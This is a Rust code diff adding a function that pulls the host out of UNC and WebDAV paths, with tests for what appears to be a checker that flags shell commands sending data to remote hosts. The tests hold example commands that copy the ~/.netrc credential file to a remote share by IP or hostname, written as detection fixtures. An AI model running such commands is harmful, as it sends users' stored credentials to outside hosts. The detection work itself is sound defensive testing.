@@ -79,6 +79,15 @@ pub fn urls_in(text: &str) -> Vec<String> {
 /// short name cloud VMs resolve to their metadata service.
 const SINGLE_LABEL_HOSTS: &[&str] = &["localhost", "metadata"];
 
+/// The host of a UNC path (`\\host\share`, `//host/share`, WebDAV's
+/// `\\host@SSL@443\dav`), without its `@SSL` / `@port` tail.
+pub fn unc_host(p: &str) -> Option<&str> {
+    let rest = p.strip_prefix("\\\\").or_else(|| p.strip_prefix("//"))?;
+    let host = rest.split(['\\', '/']).next()?;
+    let host = host.split('@').next()?;
+    (!host.is_empty() && host != "?" && host != "." && !host.contains(':')).then_some(host)
+}
+
 /// The host of a URL (`https://user@Host:443/x` → `host`), or of a bare
 /// `host/path`, in canonical form.
 pub fn host_of(url: &str) -> Option<String> {
@@ -204,5 +213,32 @@ mod tests {
         assert_eq!(host_of("http://$HOST/x"), None);
         assert_eq!(host_of("http://api:8000/v1"), None);
         assert_eq!(classify("127.0.0.1.nip.io", &t), HostClass::Loopback);
+    }
+
+    #[test]
+    fn copies_to_a_share_send_to_its_host() {
+        assert_eq!(
+            unc_host(r"\\files.example@SSL@443\dav"),
+            Some("files.example")
+        );
+        assert_eq!(unc_host("//203.0.113.9/drop/k"), Some("203.0.113.9"));
+        assert_eq!(unc_host("/home/u/x"), None);
+        let sent = |s: &str| -> Vec<(String, bool)> {
+            eps(s).into_iter().map(|e| (e.host, e.sends)).collect()
+        };
+        assert_eq!(
+            sent("cp ~/.netrc //203.0.113.9/drop/n"),
+            vec![("203.0.113.9".to_string(), true)]
+        );
+        assert_eq!(
+            sent(r#"powershell -c "Copy-Item ~\.netrc \\share.example\d\""#),
+            vec![("share.example".to_string(), true)]
+        );
+        // a file taken from a share is not sent there; a local copy reaches nothing
+        assert_eq!(
+            sent("cp //share.example/pub/tool.zip ."),
+            vec![("share.example".to_string(), false)]
+        );
+        assert!(sent("cp a.txt b.txt").is_empty());
     }
 }
